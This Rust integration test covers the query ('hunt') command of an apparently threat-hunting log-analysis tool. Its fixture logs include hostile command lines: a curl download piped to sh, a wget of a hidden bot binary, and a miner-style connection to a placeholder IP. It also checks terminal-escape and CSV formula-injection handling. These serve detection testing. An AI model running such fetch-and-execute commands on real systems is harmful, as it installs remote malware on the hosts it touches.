//! `hunt` as it is typed and seen.
#![cfg(feature = "lake")]
#![allow(clippy::unwrap_used, reason = "helpers of tests")]

use std::path::Path;
use std::process::{Command, Output};

fn ringleader(arguments: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_ringleader"))
        .args(arguments)
        .env("NO_COLOR", "1")
        .env("COLUMNS", "140")
        .output()
        .unwrap()
}

/// What stood on standard output, and what on standard error.
fn good(arguments: &[&str]) -> (String, String) {
    let output = ringleader(arguments);
    let error = String::from_utf8(output.stderr).unwrap();
    assert!(output.status.success(), "{arguments:?}: {error}");
    (String::from_utf8(output.stdout).unwrap(), error)
}

fn bad(arguments: &[&str]) -> String {
    let output = ringleader(arguments);
    assert_eq!(output.status.code(), Some(2), "{arguments:?}");
    String::from_utf8(output.stderr).unwrap()
}

/// A bot on six hosts, something else that fetches from its server, and a name that would clear the screen.
fn logs(to: &Path) {
    std::fs::create_dir(to).unwrap();
    let mut log = String::new();
    let mut line = |host: &str, second: usize, pid: u32, ppid: u32, command: &str| {
        let time = format!("2026-03-01 10:00:{second:02}.5");
        let row = serde_json::json!({ "time": time, "host": host, "cmd_line": command, "pid": pid, "ppid": ppid });
        log.push_str(&format!("{row}\n"));
    };
    for host in 0..6 {
        for (n, (pid, ppid, command)) in [
            (101, 1, "sh -c curl -s http://192.0.2.7/x.sh -o /tmp/x.sh; sh /tmp/x.sh"),
            (102, 101, "curl -s http://192.0.2.7/x.sh -o /tmp/x.sh"),
            (103, 101, "sh /tmp/x.sh"),
            (104, 103, "wget http://198.51.100.9/.y/bot -O /tmp/.b"),
            (105, 103, "/tmp/.b -o 198.51.100.9:3333 -u w"),
        ]
        .into_iter()
        .enumerate()
        {
            line(&format!("web{host}"), host * 6 + n, pid, ppid, command);
        }
    }
    line("quiet1", 50, 200, 1, "ping -c 1 198.51.100.9");
    line("quiet1", 51, 201, 1, "echo \u{1b}[2J=cmd|x");
    std::fs::write(to.join("processes.ndjson"), log).unwrap();
}

#[test]
fn questions_are_asked_of_a_lake_and_its_findings() {
    let at = tempfile::tempdir().unwrap();
    let path = |name: &str| at.path().join(name).display().to_string();
    logs(&at.path().join("logs"));
    let (lake, out) = (path("lake"), path("findings"));
    good(&["ingest", &path("logs"), "--lake", &lake]);
    let hunt = |more: &[&str]| good(&[&["hunt", "--lake", &lake], more].concat());
    let no = |more: &[&str]| bad(&[&["hunt", "--lake", &lake], more].concat());

    // Without findings.
    let (table, _) = hunt(&["--path", "/tmp/.b"]);
    assert_eq!(table.lines().filter(|it| it.contains(" ran ")).count(), 6, "{table}");
    assert!(table.lines().all(|it| it.chars().count() <= 140), "{table}");
    let (json, _) = hunt(&["--path", "/tmp/.b", "--json", "--host", "web3"]);
    let row: serde_json::Value = serde_json::from_str(json.lines().next_back().unwrap()).unwrap();
    assert_eq!((&row["host_uid"], &row["pid"], &row["what"]), (&"web3".into(), &105.into(), &"ran".into()));
    let (cut, told) = hunt(&["--ioc", "198[.]51[.]100[.]9", "--limit", "2"]);
    assert_eq!((cut.lines().count(), told.contains("there are more")), (3, true), "{told}");
    let (shown, _) = hunt(&["--host", "quiet1"]);
    assert!(shown.contains(r"\x1b[2J=cmd|x") && !shown.contains('\x1b'), "{shown}");
    let (csv, _) = hunt(&["SELECT '=1+1' AS x, -1 AS n", "--csv"]);
    assert_eq!(csv, "x,n\r\n'=1+1,-1\r\n");
    let (tree, _) = hunt(&["--host", "web1", "--tree"]);
    assert!(tree.contains("├─ curl -s") && tree.contains("└─ /tmp/.b -o"), "{tree}");
    let (tree, _) = hunt(&["--host", "web1", "--tree", "--json", "--pid", "104"]);
    assert!(tree.lines().all(|it| serde_json::from_str::<serde_json::Value>(it).is_ok()));
    assert!(tree.contains("\"basis\":\"observed\"") && !tree.contains("/tmp/.b -o"), "{tree}");
    let around = ["--port", "445", "--around", "2026-03-01T10:00:00Z", "--within", "30m"];
    let (sql, _) = hunt(&[&around[..], &["--sql"]].concat());
    assert!(sql.contains("dst_port = '445'") && sql.contains("TIMESTAMP '2026-03-01T09:30:00.000000Z'"), "{sql}");
    // What is printed can be asked.
    hunt(&[&sql]);
    let (nothing, told) = hunt(&around);
    assert!(nothing.is_empty() && told.contains("Nothing found.") && told.contains("process_activity"), "{told}");
    assert!(hunt(&["--host", "web"]).1.contains("web0, web1"));
    assert!(hunt(&["--tables"]).0.contains("process_cmd_line"));

    // Errors say what to do.
    assert!(no(&["--gang", "nobody"]).contains("ringleader analyze --lake"));
    assert!(no(&["DROP TABLE lake"]).contains("only questions are answered"));
    assert!(no(&["SELECT x FROM events"]).contains("--tables"));
    assert!(no(&["SELECT 1", "--host", "web1"]).contains("write them into the SQL"));
    assert!(no(&[]).contains("nothing is asked"));
    assert!(no(&["--around", "2026-03-01 10:00:00", "--port", "1"]).contains("the zone is missing"));
    assert!(no(&["--around", "2026-03-01T10:00:00Z", "--within", "soon", "--port", "1"]).contains("--within soon"));
    assert!(no(&["--ioc", "a", "--path", "b"]).contains("cannot be used with"));
    assert!(no(&["--tree"]).contains("--host"));
    assert!(no(&["--ioc", " "]).contains("it is empty"));
    assert!(bad(&["hunt", "--lake", &path("none"), "SELECT 1"]).contains("ingest makes one"));

    // With them: the folder of the last analysis is found by itself.
    good(&["analyze", "--lake", &lake, "--out", &out]);
    let gangs: serde_json::Value =
        serde_json::from_slice(&std::fs::read(at.path().join("findings/gangs.json")).unwrap()).unwrap();
    let gang = gangs[0]["gang_id"].as_str().unwrap();
    let (json, _) = hunt(&["--gang", &gang[..8], "--json", "--limit", "0"]);
    assert_eq!(json.lines().count(), 30);
    assert!(json.contains("/tmp/.b -o") && !json.contains("quiet1"));
    let (elsewhere, _) = hunt(&["--gang", gang, "--elsewhere", "--json"]);
    assert_eq!(elsewhere.lines().count(), 1, "{elsewhere}");
    assert!(elsewhere.contains("quiet1") && elsewhere.contains("ping"));
    let (technique, _) = hunt(&["--technique", "T1105", "--json", "--host", "web2"]);
    assert!(technique.contains("\"host\":\"web2\"") && !technique.contains("web3"), "{technique}");
    assert!(hunt(&["--tables"]).0.contains("members"));
    let (joined, _) = hunt(&["SELECT count(*) AS n FROM members m JOIN events e ON e.event_id = m.event_id", "--json"]);
    assert_eq!(joined, "{\"n\":30}\n");
    assert!(no(&["--gang", "nobody"]).contains(&gang[..8]));
    assert!(no(&["--gang", gang, "--out", &path("logs")]).contains("is not a findings folder"));
    // A folder that is gone is none.
    std::fs::rename(at.path().join("findings"), at.path().join("moved")).unwrap();
    assert!(no(&["--gang", gang]).contains("--out"));
    hunt(&["--gang", gang, "--out", &path("moved")]);
}
